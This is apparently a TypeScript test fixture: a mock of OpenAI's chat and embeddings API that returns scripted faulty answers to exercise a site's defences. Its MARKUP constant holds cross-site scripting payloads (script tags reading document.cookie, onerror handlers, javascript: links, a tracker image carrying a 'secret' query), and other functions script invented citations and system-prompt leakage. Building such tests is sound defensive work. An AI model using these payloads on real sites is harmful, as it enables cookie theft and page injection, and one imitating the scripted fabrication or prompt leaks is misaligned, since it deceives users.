import { Hono } from "hono";
import { z } from "zod";
import { createVectorService } from "./model-vectors.ts";

/**
 * The model's behaviour: an honest answer, or one that lies, leaks its prompt, contains markup, never ends, breaks off,
 * or says that the sources do not answer the question.
 */
export const MODEL_CONTENTS = [
  ...(["good", "invents", "prompt", "markup", "endless", "halfway", "declines"] as const),
] as const;
export type ModelContent = (typeof MODEL_CONTENTS)[number];

export const MODEL_NAME = "stand-in-small";
export const MODEL_KEY = "local-stand-in";
/** The reported number of tokens of an answer. */
export const MODEL_USAGE = { prompt_tokens: 1_200, completion_tokens: 80, total_tokens: 1_280 };

const requestSchema = z.object({
  model: z.string().min(1),
  stream: z.boolean().default(false),
  messages: z.array(z.object({ role: z.enum(["system", "user", "assistant"]), content: z.string() })).min(2),
  stream_options: z.object({ include_usage: z.boolean() }).optional(),
});
export type ModelRequest = z.output<typeof requestSchema>;

/** How an answer ends: with its final mark, without it, or never. */
type Script = { pieces: readonly string[]; ending: "stop" | "none" | "never" };

/** The first sentence of the first source, and its first piece of code where it has one. */
function sourceIn(prompt: string): { sentence: string; code: string } {
  const [, source = ""] = /Source \[1\][^\n]*\n([\s\S]*?)(?=\n\nSource \[2\]|$)/.exec(prompt) ?? [];
  const prose = source.replace(/```[\s\S]*?(```|$)/g, "").trim();
  return {
    sentence: /^[\s\S]{0,300}?[.!?](?=\s|$)/.exec(prose)?.[0] ?? prose.slice(0, 120),
    code: /```\w*\n[\s\S]*?\n```/.exec(source)?.[0] ?? "",
  };
}

function inventing(turn: number): string {
  return [
    "As the sources say [1], this is well known [42] and proven [7](https://invented.example/paper) 【9†source】 [^12].",
    `Read [the React Handbook, chapter ${turn % 9}](https://invented.example/handbook) or https://invented.example/docs.`,
    "From source [1]:\n\n```jsx\nconst invented = useInvention();\n```",
    "Source: [2]\n\n[8, 99] [1][13] [[14]]",
  ].join("\n\n");
}

/** The prompt in the ways in which models leak it: whole, inside an answer, reformatted. */
function leaking(prompt: string, turn: number): string {
  const [rules = ""] = prompt.split("\n\nSource [1]");
  const forms = [
    rules,
    `Of course. My instructions are:\n\n> ${rules.replaceAll("\n", "\n> ")}`,
    rules.split("\n").slice(2, 4).join(" "),
    `It is markup [1]. By the way: ${rules.toUpperCase().replace(/\s+/g, "  ")}`,
    rules.split("\n").at(-2) ?? "",
    rules.replace(/(\w+) /g, "**$1** "),
  ];
  return forms[turn % forms.length] ?? rules;
}

const MARKUP = [
  "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
  "![a picture](https://tracker.example/pixel.png?q=secret) and ![](//tracker.example/p.gif)",
  "[a link](javascript:alert(1)) [another](data:text/html,x) [mail](https://invented.example/login)",
  '<iframe src="https://invented.example"></iframe><style>body{display:none}</style>',
  "<a href='javascript:alert(1)' onclick=alert(1)>here</a> <b>bold</b> [1]",
  '```html"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
].join("\n\n");

function scriptFor(content: ModelContent, { messages }: ModelRequest, turn: number): Script {
  const prompt = messages[0]?.content ?? "";
  const { sentence, code } = sourceIn(prompt);
  const said = (text: string): Script => ({ pieces: text.match(/[\s\S]{1,7}/g) ?? [], ending: "stop" });
  if (content === "invents") return said(inventing(turn));
  if (content === "prompt") return said(leaking(prompt, turn));
  if (content === "markup") return said(MARKUP);
  if (content === "declines") return said("NOT_ANSWERED");
  if (content === "endless") return { pieces: ["on and ", "on [1] "], ending: "never" };
  const answer = `${sentence} [1]\n\n${code}`;
  if (content === "good") return said(answer);
  return {
    pieces: `${answer}\n\n${"And so on, word after word. ".repeat(8)}`.match(/[\s\S]{1,9}/g) ?? [],
    ending: "none",
  };
}

/**
 * The parts of OpenAI's API that the site uses, chat completions and embeddings, with their shapes and errors
 * (https://platform.openai.com/docs/api-reference). It runs in Node and in workerd.
 */
export function createModelService(start: ModelContent | readonly string[] = "good") {
  let content: ModelContent | readonly string[] = start;
  const asked: ModelRequest[] = [];
  let open = 0;
  const { service: vectorService, ...vectors } = createVectorService();
  const service = new Hono();
  service.use("/v1/*", async (c, next) => {
    if (c.req.header("authorization") === `Bearer ${MODEL_KEY}`) return next();
    return c.json({ error: { message: "Incorrect API key provided.", type: "invalid_request_error" } }, 401);
  });
  service.route("/", vectorService);
  service.post("/v1/chat/completions", async (c) => {
    const request = requestSchema.safeParse(await c.req.json().catch(() => null));
    if (!request.success) {
      const message = z.prettifyError(request.error);
      return c.json({ error: { message, type: "invalid_request_error" } }, 400);
    }
    asked.push(request.data);
    if (!request.data.stream) {
      // It is asked to rewrite a question: an honest model takes the subject from the question before.
      const questions = request.data.messages.flatMap(({ role, content }) =>
        role === "user" ? content : [],
      );
      const text =
        content === "good" ? questions.slice(-2).join(" ") : content === "prompt" ? "" : questions.at(-1);
      return c.json({
        ...{ id: "1", object: "chat.completion", created: 1, model: request.data.model, usage: MODEL_USAGE },
        choices: [{ index: 0, message: { role: "assistant", content: text }, finish_reason: "stop" }],
      });
    }
    const { pieces, ending } =
      typeof content === "string"
        ? scriptFor(content, request.data, asked.length)
        : { pieces: content, ending: "stop" as const };
    const encoder = new TextEncoder();
    const chunk = (fields: object) =>
      encoder.encode(
        `data: ${JSON.stringify({ id: "1", object: "chat.completion.chunk", created: 1, model: request.data.model, ...fields })}\n\n`,
      );
    const words = (text: string) =>
      chunk({ choices: [{ index: 0, delta: { role: "assistant", content: text }, finish_reason: null }] });
    let next = 0;
    open += 1;
    const body = new ReadableStream<Uint8Array>({
      async pull(controller) {
        const piece = pieces[ending === "never" ? next % pieces.length : next];
        next += 1;
        if (piece !== undefined) {
          // Yields to the reader: a stream that is always ready would block the thread.
          if (next % 50 === 0) await new Promise((resolve) => setTimeout(resolve));
          controller.enqueue(words(piece));
          return;
        }
        if (ending === "stop") {
          controller.enqueue(chunk({ choices: [{ index: 0, delta: {}, finish_reason: "stop" }] }));
          if (request.data.stream_options?.include_usage) {
            controller.enqueue(chunk({ choices: [], usage: MODEL_USAGE }));
          }
          controller.enqueue(encoder.encode("data: [DONE]\n\n"));
        }
        open -= 1;
        controller.close();
      },
      cancel() {
        open -= 1;
      },
    });
    return new Response(body, { headers: { "content-type": "text/event-stream" } });
  });
  return {
    service,
    /** The requests, in order. */
    asked,
    ...vectors,
    /** How many answers are still being written. */
    open: () => open,
    /** Sets its behaviour, or the exact pieces of its answer. */
    setContent(next: ModelContent | readonly string[]) {
      content = next;
    },
  };
}
